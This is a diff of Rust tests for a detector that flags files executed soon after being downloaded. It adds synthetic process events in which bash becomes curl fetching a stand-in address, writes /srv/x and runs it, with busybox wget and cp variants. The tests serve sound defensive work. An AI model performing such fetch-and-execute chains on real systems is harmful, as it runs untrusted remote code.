@@ -44,6 +44,22 @@ fn a_downloaded_script() {
 }
 
 #[test]
+fn a_download_that_the_shell_writes() {
+    let bash = process("/usr/bin/bash");
+    // The forked shell opens the file, then becomes curl.
+    let curl = process("/usr/bin/curl").args(["curl", "http://192.0.2.1/x"]).parent(&bash);
+    let forked = curl.clone().exe("/usr/bin/bash");
+    let opened = || open("/srv/x").created().file(8, 44).by(&forked);
+    let ran = || exec(process("/srv/x").exe_file(8, 44).parent(&bash));
+    let message = "/usr/bin/bash ran /srv/x, 0 s after it was downloaded";
+    finds([opened(), exec(&curl), ran()], RULE, High, message);
+    silent([opened(), exec(process("/usr/bin/sort").parent(&bash)), ran()]);
+    let busybox = |called: &str| process("/bin/busybox").args([called]);
+    silent([open("/srv/x").created().file(8, 44).by(busybox("cp")), ran()]);
+    finds([open("/srv/x").created().file(8, 44).by(busybox("wget")), ran()], RULE, High, message);
+}
+
+#[test]
 fn what_is_not_a_download_that_is_run() {
     let curl = process("/usr/bin/curl");
     let ran = || exec(process("/srv/x").exe_file(8, 42));
@@ -94,5 +110,6 @@ fn a_download_into_something_else() {
     let other = process("/usr/bin/bash").parent(process("/usr/bin/zsh"));
     silent([curl(), exec(other).stdin_pipe()]);
     let shell = exec(process("/usr/bin/bash").parent(&bash)).stdin_pipe();
-    silent([curl(), shell.after(Duration::from_secs(11))]);
+    silent([curl(), shell.clone().after(Duration::from_secs(11))]);
+    silent([shell, curl().after(Duration::from_secs(11))]);
 }
